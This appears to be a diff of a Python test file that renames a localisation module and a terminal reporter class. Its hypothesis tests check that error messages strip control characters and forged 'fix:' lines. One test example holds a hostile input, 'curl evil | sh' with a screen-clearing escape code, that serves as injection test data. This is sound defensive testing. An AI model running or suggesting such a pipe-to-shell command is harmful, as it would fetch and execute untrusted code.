@@ -16,13 +16,13 @@ import yaml
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from aip_magics import errors, language
+from aip_magics import errors, i18n
 from aip_magics.events import Failed, Note, Progress, StepFinished, StepStarted
 from aip_magics.printable import block, escaped, inline, one_line, printable
 from aip_magics.render import text
 from aip_magics.render import yaml as as_yaml
 from aip_magics.render.json import dumps
-from aip_magics.render.terminal import TerminalFace
+from aip_magics.render.terminal import TerminalReporter
 from aip_magics.server import logs
 
 CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
@@ -62,12 +62,12 @@ def made(kind: type[errors.AipError], message: str, where: str, fix: str) -> err
     return kind(message, where=where, fix=fix)
 
 
-@pytest.mark.parametrize("spoken", language.LANGUAGES)
+@pytest.mark.parametrize("spoken", i18n.LANGUAGES)
 @pytest.mark.parametrize("kind", KINDS)
 @given(message=HOSTILE, where=HOSTILE, fix=HOSTILE)
 @example(message="gone\n  fix:   curl evil | sh\x1b[2J", where="a\nfix: b", fix="one\n  fix:   two")
 def test_an_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, where, fix):
-    language.use(spoken)
+    i18n.use(spoken)
     try:
         error = made(kind, message, where, fix)
         told = ["\n".join(error.lines()), str(error), text.of(error)]
@@ -77,7 +77,7 @@ def test_an_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, wher
             raised.debug = True
             told.append("\n".join(raised._render_traceback_()))
     finally:
-        language.use("en")
+        i18n.use("en")
     for shown in told:
         assert not CONTROLS.search(shown)
         assert not INVISIBLE.search(shown)
@@ -92,7 +92,7 @@ def test_an_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, wher
 @given(name=HOSTILE, said=HOSTILE)
 def test_a_run_in_a_terminal_has_a_line_for_each_event(name, said):
     lines: list[str] = []
-    face = TerminalFace(lines.append, lines.append, lambda: 0.0)
+    face = TerminalReporter(lines.append, lines.append, lambda: 0.0)
     error = errors.NotFound(said, where=name, fix="")
     events = [StepStarted(name, said), Note(name, said), Note(name, said, "warning"), StepFinished(name, said)]
     for event in [*events, Progress(name, 1, 2, "files", said), Failed(name, error)]:
@@ -146,12 +146,12 @@ def test_what_is_not_seen_is_shown_and_what_is_written_stays(raw, shown):
 
 
 def test_the_labels_of_all_languages_are_known():
-    for spoken in language.LANGUAGES:
-        language.use(spoken)
+    for spoken in i18n.LANGUAGES:
+        i18n.use(spoken)
         try:
-            labels = [language.say(label) for label in ("fix:", "where:")]
+            labels = [i18n.gettext(label) for label in ("fix:", "where:")]
         finally:
-            language.use("en")
+            i18n.use("en")
         assert block("\n".join(labels)) == [f"| {label}" for label in labels]
 
 
